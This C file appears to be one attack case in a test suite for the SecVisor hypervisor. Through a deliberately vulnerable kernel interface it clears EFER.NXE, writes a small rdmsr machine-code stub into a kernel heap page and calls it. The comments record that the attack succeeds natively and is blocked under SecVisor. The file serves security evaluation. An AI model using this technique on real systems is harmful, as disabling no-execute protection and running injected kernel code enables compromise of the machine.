// Row 7. EFER.NXE cleared: pages without execution do not exist any more, in the guest's tables and in what translates beneath them if it were shared.
// Source: APM 2, 5.6.3; NX as a premise of memory protection.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code: by a page fault that Linux cannot take without NXE, a triple fault.
#include "common/attack.h"

#define NXE (1ull << 11)

ATTACK("efer-nxe")
{
	// mov ecx, c0000080h; rdmsr; ret: EFER's low half
	static const u8 code[] = { 0xb9, 0x80, 0, 0, 0xc0, 0x0f, 0x32, 0xc3 };
	u64 page = kernel_page(), efer = operate(VULNERABLE_RDMSR, MSR_EFER, 0, 0), result;

	kwrite(page, code, sizeof(code));
	about_to("call code in kernel heap without NXE");
	result = operate(VULNERABLE_CALL_UNDER, MSR_EFER, efer & ~NXE, page);
	if ((u32)result == (u32)(efer & ~NXE))
		succeeded("code in kernel heap ran and found EFER %#llx", (unsigned long long)result);
	failed("it returned %#llx", (unsigned long long)result);
}
